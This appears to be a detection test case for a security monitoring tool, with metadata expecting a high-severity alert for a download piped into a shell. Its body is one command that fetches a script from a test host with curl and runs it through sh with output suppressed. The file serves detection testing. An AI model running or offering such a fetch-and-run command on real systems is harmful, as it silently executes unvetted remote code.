# id: B10
# title: A download is piped into a shell
# expect: alert
# severity: high
# kinds: process, network
# attck: T1105
# image: tools
# launch: app
# peers: http:8000

curl -s -m 5 http://http:8000/a.sh | sh >/dev/null 2>&1
exit 0
